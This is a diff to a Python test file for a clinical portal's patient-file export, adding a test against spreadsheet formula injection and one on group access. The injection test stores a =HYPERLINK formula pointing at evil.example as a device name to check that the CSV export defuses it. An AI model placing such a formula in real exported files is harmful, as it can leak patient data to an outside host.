@@ -1,5 +1,6 @@
 """All that is kept of a patient as a file: for whoever may see the patient, with a line in the audit trail."""
 
+import csv
 import io
 import json
 import zipfile
@@ -7,7 +8,7 @@ import zipfile
 from islet.model.alerts import Severity
 from islet.model.codec import encode_event
 from islet.model.events import Meal
-from islet.model.people import Role
+from islet.model.people import Patient, Role
 from islet.model.time import from_us
 from islet.model.topics import Topic
 from tests.web.portal import Site
@@ -56,3 +57,19 @@ async def test_a_patient_of_whom_nothing_has_come_has_a_file_too(site: Site) -> 
     archive = zipfile.ZipFile(io.BytesIO(answer.content))
     assert archive.read("events.jsonl") == b""
     assert archive.read("readings.csv") == b"time,value,unit,range,method,device\r\n"
+
+
+async def test_a_device_is_no_formula_of_a_spreadsheet(site: Site) -> None:
+    site.add_readings("p-1", [100], device='=HYPERLINK("http://evil.example/?"&A2)')
+    archive = zipfile.ZipFile(io.BytesIO((await site.client("nurse").get(PATH)).content))
+    (row,) = csv.DictReader(io.StringIO(archive.read("readings.csv").decode(), newline=""))
+    assert row["device"].startswith("'=HYPERLINK")
+    assert json.loads(archive.read("events.jsonl"))["device"].startswith("=HYPERLINK")  # as it came
+
+
+async def test_who_has_the_patient_as_one_of_a_group_is_told_too(site: Site) -> None:
+    site.registry.put_patient(Patient(id="p-1", tags=("ward-3",)))
+    site.add_user("kim", Role.CLINICIAN, "group/ward-3")
+    site.add_user("lee", Role.CLINICIAN, "group/ward-4")
+    archive = zipfile.ZipFile(io.BytesIO((await site.client("kim").get(PATH)).content))
+    assert json.loads(archive.read("about.json"))["followed_by"] == ["kim", "nurse"]
